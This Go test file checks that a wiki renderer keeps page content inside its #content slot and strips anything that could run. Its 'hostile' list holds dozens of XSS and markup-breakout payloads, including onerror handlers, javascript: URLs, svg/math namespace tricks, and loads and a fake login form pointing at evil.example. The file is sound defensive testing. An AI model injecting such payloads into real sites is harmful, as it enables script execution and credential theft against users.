// Content that tries to leave its place.

package wiki_test

import (
	"bytes"
	"context"
	"errors"
	"fmt"
	"regexp"
	"runtime"
	"strings"
	"testing"
	"time"

	"golang.org/x/net/html"
	"golang.org/x/net/html/atom"

	"pagemap/render"
	"pagemap/render/look"
	"pagemap/render/wiki"
)

// layouts are looks that content may find itself in; #content is where it belongs.
var layouts = map[string]string{
	"modern": layoutFile,
	"quirks": `<html><title><!--pagemap:title--></title><!--pagemap:head--><body bgcolor=white><table><tr><td id=nav>Nav<td id=content><!--pagemap:body-->
<tr><td colspan=2>Footer</table><script>var a = "</b>"</script><font size=1>End`,
	"item":     `<!DOCTYPE html><title>x</title><body><ul><li>One<li><dl><dt>T<dd><b><i><div id=content><!--pagemap:body--></div>after</i></b></dl><li>Last</ul>`,
	"nested":   `<!DOCTYPE html><title>x</title><body><form><div><a href=/><span>link</span></a><div id=content><pre>` + "\n" + `</pre><!--pagemap:body--><!-- end --></div></div><input name=q></form><p>End`,
	"no end":   `<!DOCTYPE html><title>x</title><body><div id=head>Head</div><div id=content><!--pagemap:body-->`,
	"in table": `<!DOCTYPE html><title>x</title><table><caption>C</caption><tbody><tr><th id=content><!--pagemap:body--></th><td>Beside</td></tr></tbody></table><p>End</p>`,
}

// hostile is content of which nothing may run or leave its place.
var hostile = []string{
	`<script>alert(1)</script>`, `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`, `<script>`, `</script><script>alert(1)`, `<scr<script>ipt>alert(1)</scr</script>ipt>`,
	`<img src=x onerror=alert(1)>`, `<img src="/x.png" ONERROR="alert(1)" onload=alert(1)>`, `<body onload=alert(1)>`, `<b onmouseover=alert(1)>x</b>`, `<div style="position:fixed;top:0;width:100%;height:100%">x</div>`,
	`<a href="javascript:alert(1)">x</a>`, `<a href="JaVaScRiPt:alert(1)">x</a>`, `<a href="&#106;avascript:alert(1)">x</a>`, `<a href="java&#x09;script:alert(1)">x</a>`, `<a href=" &#14; javascript:alert(1)">x</a>`,
	`<a href="vbscript:msgbox(1)">x</a>`, `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>`, `<img src="data:image/svg+xml,<svg onload=alert(1)>">`,
	`</div></div></td></tr></table></body></html><h1>Out</h1>`, `</div></td></tr></table><p id="footer">Fake`, `<table><tr><td>`, `<table><tr><td></table></div>out`, `</table>`, `<td>cell</td><tr><td>x`, `<tbody>`, `<caption>x`, `<col>`, `</caption></th>`,
	`<plaintext>everything`, `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`, `<template><script>alert(1)</script></template>`, `<template></div></template></div>`, `<title>x</title>`, `<title>`, `<textarea></div><script>alert(1)</script>`, `<textarea>`,
	`<style>body{display:none}</style>`, `<style>`, `<link rel=stylesheet href=//evil.example/x.css>`, `<meta http-equiv=refresh content="0;url=//evil.example">`, `<base href=//evil.example/>`,
	`<svg><style><img src=x onerror=alert(1)></style></svg>`, `<svg><p><style><!--</style><img src=x onerror=alert(1)>-->`, `<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">`,
	`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`, `<math><mi><table><mglyph><style><math href="javascript:alert(1)">`,
	`<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`, `<svg><foreignObject><div></svg></div></div>out`, `<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>`,
	`<!--`, `<!-->`, `<!--->`, `<!-- --!><script>alert(1)</script> -->`, `--><script>alert(1)</script>`, `<![CDATA[<script>alert(1)</script>]]>`, `<!DOCTYPE html><html><body onload=x>`, `<?xml version="1.0"?><?php echo 1 ?>`, `<!-- pagemap:body --><!--pagemap:title-->`,
	`<iframe src=//evil.example></iframe>`, `<iframe>`, `<object data=//evil.example></object>`, `<embed src=//evil.example>`, `<frameset><frame src=//evil.example></frameset>`, `<noembed></div>`, `<noframes></div>`, `<xmp></div><script>alert(1)</script>`, `<listing></div>`,
	`<form action=//evil.example><input name=password type=password><button>Log in</button></form>`, `</form><form action=//evil.example>`, `<input type=image src=//evil.example>`, `<select><option>x`, `</select>`, `<button formaction=javascript:alert(1)>x`, `<isindex>`, `<keygen>`,
	`<li>item</li>`, `</li><li>next`, `</ul>`, `<dd>x<dt>y`, `</dl></dd>`, `<p>one<p>two</p></p></p>`, `</p>`, `</br>`, `<a href=/x><a href=/y>nested`, `</a>`, `<b><i>wrong</b> order</i>`, `</b></i></b>`, `<b><p>adopted</b>x`, `<nobr><nobr>`, `<h1>one<h2>two</h1>`,
	`<div id="footer">mine</div><a name="q">mine</a><p id=content>mine</p><p id=nav>`, `<img name=cookie src=/x.png><form id=getElementById>`,
	`<p>` + strings.Repeat(`<b><i><u>`, 100) + `x`, strings.Repeat(`<a href=/x><div>`, 100), strings.Repeat(`<table><td>`, 60), strings.Repeat("<ul><li>", 100), strings.Repeat(`</div>`, 1000), strings.Repeat("<font color=red>", 200),
	`<a href="/x" title='"><script>alert(1)</script>'>x</a>`, `<p class='"></div><script>alert(1)</script>'>x`, "<p title=\"`><script>alert(1)</script>\">x</p>", `<p lang='"><script>'>x`, `<p/onclick=alert(1)>x`, `<p onclick
=alert(1)>x`, "<img\x00 src=x\x00onerror=alert(1)>", "\x00<scr\x00ipt>alert(1)</scr\x00ipt>", "<p \x0conclick=alert(1)>x", "<a href=\"\x01javascript:alert(1)\">x</a>",
	"+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "\x1b$B<script>\x1b(B", "\xc0\xbcscript\xc0\xbealert(1)", "\xff\xfe<script>", "&lt;script&gt;alert(1)&lt;/script&gt;", "&#x3C;script&#x3E;", "<p>&amp;lt;script&amp;gt;</p>", "<", "<a", "<a href=", `<a href="`, "</", "&", "&#", "&#0;&#xD800;&#x110000;",
	`<video src=x onerror=alert(1)></video>`, `<audio controls><source src=x></audio>`, `<details open ontoggle=alert(1)><summary>x`, `<marquee onstart=alert(1)>x`, `<blink>x`, `<custom-element onclick=x>y`, `<slot>`, `<portal src=//evil.example>`, `<dialog open>x`, `<area href=javascript:alert(1)>`, `<map name=x><area href=/x></map>`,
	`<a href="/x" target=_parent ping=//evil.example>x</a>`, `<a href="https://user:pw@evil.example/">x</a>`, `<img srcset="javascript:alert(1) 1x" src=/x.png>`, `<img src=/x.png usemap=#x ismap>`, `<blockquote cite="javascript:alert(1)">x</blockquote>`, `<table background="javascript:alert(1)"><td>x`, `<body background=x>`, `<p xml:base="javascript:">x`,
}

// TestHostile: around hostile content a page is what it is around harmless content, and nothing in it runs.
func TestHostile(t *testing.T) {
	for name, file := range layouts {
		t.Run(name, func(t *testing.T) {
			s := newSite(t, nil)
			s.layout(file)
			s.put("About.html", "<p>harmless</p>")
			want := map[bool]string{}
			for _, scripting := range []bool{false, true} {
				want[scripting] = around(t, s.draw(about).Body, scripting)
			}
			for _, content := range hostile {
				s.put("About.html", content)
				doc, err := s.Render(t.Context(), about)
				if err != nil {
					t.Errorf("%.80q: %v", content, err)
					continue
				}
				for scripting, want := range want {
					if got := around(t, doc.Body, scripting); got != want {
						t.Errorf("%.120q, drawn\n%.2000s\nmakes\n%s\nof\n%s", content, doc.Body, got, want)
					}
				}
			}
		})
	}
}

// around is a page without the content of #content, which is checked.
func around(t testing.TB, page []byte, scripting bool) string {
	t.Helper()
	root, err := html.ParseWithOptions(bytes.NewReader(page), html.ParseOptionEnableScripting(scripting))
	if err != nil {
		t.Fatalf("%v: %.1000s", err, page)
	}
	var content *html.Node
	for n := range root.Descendants() {
		if n.DataAtom == atom.Title && n.FirstChild != nil { // it follows the content's heading
			n.FirstChild.Data = "title"
		}
		for _, a := range n.Attr {
			if a.Key == "id" && a.Val == "content" && content == nil {
				content = n
			}
		}
	}
	if content == nil {
		t.Fatalf("no #content: %.1000s", page)
	}
	for n := range content.Descendants() {
		harmless(t, n)
	}
	for n := content.FirstChild; n != nil; n = content.FirstChild {
		content.RemoveChild(n)
	}
	var b strings.Builder
	if err := html.Render(&b, root); err != nil {
		t.Fatal(err)
	}
	return b.String()
}

var goodURL = regexp.MustCompile(`^(https?://[^/@]+($|[/?#])|/($|[^/\\])|#|mailto:|data:image/(png|gif|jpeg|webp|avif);)`)

// harmless checks one node of content.
func harmless(t testing.TB, n *html.Node) {
	t.Helper()
	if n.Type != html.ElementNode {
		return
	}
	if n.Namespace != "" {
		t.Errorf("an element %s of namespace %s", n.Data, n.Namespace)
	}
	switch n.DataAtom {
	case atom.Script, atom.Style, atom.Iframe, atom.Object, atom.Embed, atom.Form, atom.Button, atom.Select, atom.Textarea, atom.Link, atom.Meta, atom.Base,
		atom.Svg, atom.Math, atom.Template, atom.Title, atom.Plaintext, atom.Frameset, atom.Body, atom.Html, atom.Audio, atom.Video, atom.Noscript, 0:
		t.Errorf("an element %s", n.Data)
	}
	for _, a := range n.Attr {
		switch {
		case strings.HasPrefix(a.Key, "on"), a.Key == "style", a.Key == "srcset", a.Key == "action", a.Key == "background", a.Key == "ping", a.Key == "cite":
			t.Errorf("<%s %s=%q>", n.Data, a.Key, a.Val)
		case a.Key == "href", a.Key == "src":
			if !goodURL.MatchString(a.Val) {
				t.Errorf("<%s %s=%q>", n.Data, a.Key, a.Val)
			}
		}
	}
}

// TestIDs: content has no id or name that its layout has, and keeps all others.
func TestIDs(t *testing.T) {
	s := newSite(t, nil)
	s.put("About.html", `<p id="footer">a</p><p id="nav">b</p><a name="q">c</a><p id="mine">d</p><a name="here">e</a><span id="content">f</span>`)
	want := `<p>a</p><p>b</p><a>c</a><p id="mine">d</p><a name="here">e</a><span>f</span>`
	if body := string(s.draw(about).Body); !strings.Contains(body, `<div id="content">`+want+`</div>`) {
		t.Errorf("the page is\n%s\nwant %s in it", body, want)
	}
}

// TestWindowNames: content has no id that a script of its layout asks the window for.
func TestWindowNames(t *testing.T) {
	s := newSite(t, nil)
	s.layout(strings.Replace(layoutFile, "var footer", "var o = window.settings || self . more || {}; var footer", 1))
	s.put("About.html", `<p id="settings">a</p><p id="more">b</p><p id="footers">c</p><p id="window">d</p>`)
	want := `<p>a</p><p>b</p><p id="footers">c</p><p id="window">d</p>`
	if body := string(s.draw(about).Body); !strings.Contains(body, want) {
		t.Errorf("the page is\n%s\nwant %s in it", body, want)
	}
}

// TestKept: what wikis produce stays.
func TestKept(t *testing.T) {
	for _, content := range []string{
		`<h2 id="A_part" class="mw-heading">A <b>part</b></h2>`,
		`<table class="wikitable sortable" border="1" cellpadding="2" width="100%"><caption>C</caption><colgroup><col width="10%"/></colgroup><thead><tr><th scope="col" colspan="2">H</th></tr></thead><tbody><tr><td rowspan="2" align="right" valign="top" bgcolor="#ff0000">1</td></tr></tbody></table>`,
		`<figure class="mw-halign-right"><img src="/media/x.png" width="120" height="80" alt="A picture"/><figcaption>Text</figcaption></figure>`,
		`<dl><dt>Term</dt><dd>What it is</dd></dl>`, `<details open=""><summary>S</summary>text</details>`, `<p>x<sup id="cite-1" class="reference"><a href="#note-1">[1]</a></sup> H<sub>2</sub>O</p>`,
		`<p lang="ar" dir="rtl">text</p>`, `<pre><code class="language-go">a &lt; b &amp;&amp; c</code></pre>`, `<ul><li>one<ol start="3" type="a"><li value="4">two</li></ol></li></ul>`, `<p>a<br/>b <kbd>Ctrl</kbd> <abbr title="x">y</abbr> <del>z</del></p>`,
		`<div class="toc" role="navigation" aria-labelledby="t"><h2 id="t">Contents</h2></div>`, `<p>日本語 &#34;quoted&#34; é</p>`, `<blockquote><p>said</p></blockquote><hr/>`, `<center><font size="+1" color="red" face="Arial, Helvetica">old</font></center>`, `<section class="footnotes" role="doc-endnotes"><ol><li id="fn:1">x</li></ol></section>`,
		`<ul><li><input type="checkbox" checked="" disabled=""/> done</li></ul>`,
	} {
		s := newSite(t, nil)
		s.put("About.html", content)
		if body := string(s.draw(about).Body); !strings.Contains(sorted(body), sorted(content)) {
			t.Errorf("%s\nbecame\n%s", content, body)
		}
	}
}

var tag = regexp.MustCompile(`<[a-z0-9]+( [a-z-]+="[^"]*")+/?>`)

// sorted puts the attributes of all tags in order.
func sorted(s string) string {
	return tag.ReplaceAllStringFunc(s, func(tag string) string {
		z := html.NewTokenizer(strings.NewReader(tag))
		z.Next()
		token := z.Token()
		for range token.Attr {
			for i := 1; i < len(token.Attr); i++ {
				if token.Attr[i].Key < token.Attr[i-1].Key {
					token.Attr[i], token.Attr[i-1] = token.Attr[i-1], token.Attr[i]
				}
			}
		}
		return token.String()
	})
}

// made is a wiki whose pages are made by a function.
type made struct {
	*gate
	page func(context.Context) (*wiki.Page, error)
}

func (m made) Stat(ctx context.Context, name string) (wiki.State, error) {
	return wiki.State{Name: name, Revision: "1"}, nil
}

func (m made) Open(ctx context.Context, _ string) (*wiki.Page, error) { return m.page(ctx) }

// TestBounded: what is large, slow or deep costs an error, not the process.
func TestBounded(t *testing.T) {
	page := func(body string) func(context.Context) (*wiki.Page, error) {
		return func(context.Context) (*wiki.Page, error) {
			return &wiki.Page{State: wiki.State{Name: "X", Revision: "1"}, Title: "X", Body: []byte(body)}, nil
		}
	}
	fill := func(text string, size int) string { return strings.Repeat(text, size/len(text)) }
	for _, test := range []struct {
		name string
		page func(context.Context) (*wiki.Page, error)
		err  error // nil: it may be drawn
	}{
		{"50 MB", page(fill("<p>text</p>", 50<<20)), render.ErrTooLarge},
		{"unclosed", page(fill("<b>", 200<<10)), render.ErrUnavailable},
		{"deep", page(fill("<div>", 200<<10)), render.ErrUnavailable},
		{"tables", page(fill("<table>", 200<<10)), nil},
		{"attributes", page("<p " + fill(`class=x id=y `, 200<<10) + ">"), nil},
		{"entities", page(fill("&amp;", 1<<20)), nil},
		{"links", page(fill("<a href=x>y</a>", 200<<10)), nil},
		{"brackets", page(fill("<", 1<<20)), nil},
		{"quotes", page("<a href='" + fill("x", 1<<20)), nil},
		{"comments", page(fill("<!--", 1<<20)), nil},
		{"adoption", page(fill("<a><p><b>", 200<<10)), nil},
		{"panics", func(context.Context) (*wiki.Page, error) { panic("hostile") }, render.ErrUnavailable},
		{"hangs", func(ctx context.Context) (*wiki.Page, error) {
			<-ctx.Done()
			return nil, fmt.Errorf("%w: %w", render.ErrUnavailable, ctx.Err())
		}, render.ErrUnavailable},
	} {
		t.Run(test.name, func(t *testing.T) {
			s := newSite(t, func(s *site, o *wiki.Options) {
				o.Wiki, o.Near, o.Timeout = made{s.wiki, test.page}, false, 200*time.Millisecond
			})
			var before, after runtime.MemStats
			runtime.ReadMemStats(&before)
			begin := time.Now()
			_, err := s.Render(t.Context(), about)
			took := time.Since(begin)
			runtime.GC()
			runtime.ReadMemStats(&after)
			if test.err != nil && !errors.Is(err, test.err) || err != nil && !errors.Is(err, render.ErrUnavailable) {
				t.Errorf("error %v, want %v", err, test.err)
			}
			if took > 30*time.Second {
				t.Errorf("took %v", took)
			}
			if err != nil && test.name != "hangs" {
				begin = time.Now()
				if _, again := s.Render(t.Context(), about); again == nil {
					t.Error("the second attempt ends otherwise")
				}
				if second := time.Since(begin); took > time.Second && second > took/2 {
					t.Errorf("the first attempt took %v, the second %v", took, second)
				}
			}
			if grown := int64(after.HeapAlloc) - int64(before.HeapAlloc); grown > 60<<20 {
				t.Errorf("%d bytes are held", grown)
			}
		})
	}
}

func FuzzBody(f *testing.F) {
	for _, content := range hostile {
		f.Add(content)
	}
	var drawn []*look.Layout
	for _, file := range layouts {
		l, err := look.Parse("layout.html", []byte(file))
		if err != nil {
			f.Fatal(err)
		}
		drawn = append(drawn, l)
	}
	s := newSite(f, nil)
	page := func(content string) *wiki.Page {
		return &wiki.Page{State: wiki.State{Name: "About", Revision: "1"}, Title: "About", Body: []byte(content)}
	}
	draw := func(t testing.TB, l *look.Layout, content string) []byte {
		s.look.Store(l)
		body, err := s.Body(about, page(content))
		if err != nil {
			return nil // too deep
		}
		whole, err := l.Draw(look.Content{Body: body})
		if err != nil {
			t.Fatal(err)
		}
		return whole
	}
	f.Fuzz(func(t *testing.T, content string) {
		for _, l := range drawn {
			for _, scripting := range []bool{false, true} {
				whole := draw(t, l, content)
				if whole == nil {
					return
				}
				want := around(t, draw(t, l, "<p>x</p>"), scripting)
				if got := around(t, whole, scripting); got != want {
					t.Fatalf("%q, drawn\n%s\nmakes\n%s\nof\n%s", content, whole, got, want)
				}
			}
		}
	})
}
